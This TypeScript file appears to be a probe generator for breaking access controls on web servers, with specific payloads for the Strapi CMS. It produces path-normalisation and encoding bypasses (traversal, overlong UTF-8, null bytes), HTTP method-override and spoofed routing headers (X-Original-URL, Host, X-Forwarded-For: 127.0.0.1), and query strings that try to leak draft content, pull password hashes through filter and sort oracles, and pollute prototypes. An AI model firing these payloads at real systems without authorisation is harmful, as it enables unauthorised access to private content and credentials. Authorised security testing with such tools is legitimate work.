import type { Request } from './ask.ts';

const everyLetter = (text: string) =>
  text.replace(/[a-z0-9]/g, (letter) => `%${letter.charCodeAt(0).toString(16)}`);
const twice = (text: string) => everyLetter(text).replaceAll('%', '%25');

/** Other ways to write a path, which servers and proxies have been known to take for the same. */
export function spellingsOf(to: Request['to'], path: string): Request[] {
  const at = path.lastIndexOf('/');
  const [folder, last] = [path.slice(0, at), path.slice(at + 1)];
  const half = Math.floor(last.length / 2);
  const paths = [
    `${path}/`,
    `${path}//`,
    `${path}/.`,
    `/${path}`,
    `${folder}//${last}`,
    `${folder}/./${last}`,
    `${folder}/x/../${last}`,
    `${folder}/%2e/${last}`,
    `${folder}/x/%2e%2e/${last}`,
    `${folder}/x/%252e%252e/${last}`,
    `${folder}%2f${last}`,
    `${folder}%252f${last}`,
    `${folder}%5c${last}`,
    `${folder}%c0%af${last}`,
    `${folder}/%c0%ae/${last}`,
    `${folder}/${everyLetter(last.slice(0, 1))}${last.slice(1)}`,
    `${folder}/${everyLetter(last)}`,
    `${folder}/${twice(last)}`,
    everyLetter(path),
    `${folder}/${last.toUpperCase()}`,
    path.toUpperCase(),
    `${folder}/${last.slice(0, half)}`,
    `${folder}/${last.slice(0, half)}%00${last.slice(half)}`,
    `${path}%00`,
    `${path}%00.html`,
    `${path}%0a`,
    `${path}%20`,
    `${path}.`,
    ...['.json', '.html', '.xml', '.pdf', '.txt', '.map', '.bak', '~', '.gz'].map((e) => path + e),
    `${path}/index.html`,
    `${path};x=1`,
    `${path}&x=1`,
    `${path}%3fx=1`,
    `${path}?`,
    `${path}?x=1`,
  ];
  const raw = [
    path.replaceAll('/', '\\'),
    `${folder}\\${last}`,
    `${path}\u0000`,
    `${path}#x`,
    `${folder}/\u00c0\u00af${last}`,
    `http://127.0.0.1${path}`,
    `http://elsewhere.example${path}`,
    path.slice(1),
  ];
  return [
    ...paths.map((one) => ({ to, path: one })),
    ...raw.map((one) => ({ to, path: one, isRaw: true })),
  ];
}

/** Every other method. */
export function methodsOf(to: Request['to'], path: string): Request[] {
  const methods = ['POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND', 'MOVE'];
  const asked = { origin: 'https://elsewhere.example', 'access-control-request-method': 'GET' };
  const instead = ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'];
  return [
    ...methods.map((method) => ({ to, path, method })),
    ...instead.map((name) => ({ to, path, method: 'POST', headers: { [name]: 'GET' } })),
    { to, path, method: 'OPTIONS', headers: asked },
  ];
}

/** Headers and a body with which some servers take one address, host or answer for another. */
export function misleadingOf(to: Request['to'], path: string): Request[] {
  const body = '{"status":"draft"}';
  return [
    { to, path: '/', headers: { 'x-original-url': path } },
    { to, path: '/', headers: { 'x-rewrite-url': path } },
    { to, path, headers: { host: 'elsewhere.example' } },
    { to, path, headers: { 'x-forwarded-host': 'localhost', 'x-forwarded-for': '127.0.0.1' } },
    { to, path, headers: { 'content-type': 'application/json', 'content-length': '18' }, body },
  ];
}

/** Words that mean something to Strapi, to other systems, or to nobody. */
export function queriesOf(to: Request['to'], path: string): Request[] {
  const queries = [
    'status=draft',
    'status=published',
    'status[]=draft',
    'status=draft&status=published',
    'publicationState=preview',
    'publicationState=live',
    '_publicationState=preview',
    'populate=*',
    'populate=deep',
    'populate[createdBy][populate]=*',
    'fields=*',
    'sort=createdBy.password',
    'filters[publishedAt][$null]=true',
    'filters[createdBy][email][$startsWith]=a',
    'where[publishedAt][$null]=true',
    '_where[createdBy.password_contains]=a',
    'createdBy[password][$startsWith]=$2',
    'locale=all',
    'hasPublishedVersion=false',
    'preview=true',
    'draft=1',
    'constructor[prototype]=1',
    '__proto__[status]=draft',
    'token=x',
  ];
  return queries.map((query) => ({ to, path: `${path}?${query}` }));
}
